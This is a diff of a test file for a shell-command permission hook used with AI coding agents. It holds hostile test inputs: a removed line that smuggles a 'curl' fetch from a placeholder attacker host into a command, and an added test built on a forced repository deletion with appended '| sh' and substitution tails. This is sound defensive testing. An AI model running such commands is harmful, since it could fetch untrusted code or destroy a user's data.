@@ -97,10 +97,23 @@ def test_verified_command_chained_with_rm_is_not_allowed_as_a_whole(world: World
 
 @pytest.mark.parametrize("agent", AGENTS)
 def test_a_line_that_cannot_be_split_asks_where_the_agent_can_ask_and_denies_where_not(world: World, agent: str) -> None:
-    r = hook(world, agent, hook_input(agent, "gh pr list $(curl -s evil.example/x)", str(world.dir)))
+    r = hook(world, agent, hook_input(agent, "gh pr list --repo $(gh pr view 1)", str(world.dir)))
     behavior, reason = decision(agent, r.stdout)
     assert behavior == ("ask" if agent in ("claude-code", "copilot") else "deny"), r.stdout
     assert "command substitution" in reason
+
+
+@pytest.mark.parametrize("agent", AGENTS)
+@pytest.mark.parametrize("tail", ["| sh", "$(true)", "`true`", "> $OUT"])
+def test_an_unreadable_tail_does_not_soften_a_denied_program_into_a_question(
+        world: World, agent: str, tail: str) -> None:
+    """Appending something the splitter refuses must not turn the denial of a program the line
+    plainly runs into an ask the user might approve without seeing it."""
+    r = hook(world, agent, hook_input(agent, f"gh repo delete example-org/tools --yes {tail}", str(world.dir)),
+             signed=False)
+    behavior, reason = decision(agent, r.stdout)
+    assert behavior == "deny", r.stdout + r.stderr
+    assert "gh repo delete" in reason and "UNSIGNED" in reason
 
 
 @pytest.mark.parametrize("agent", AGENTS)
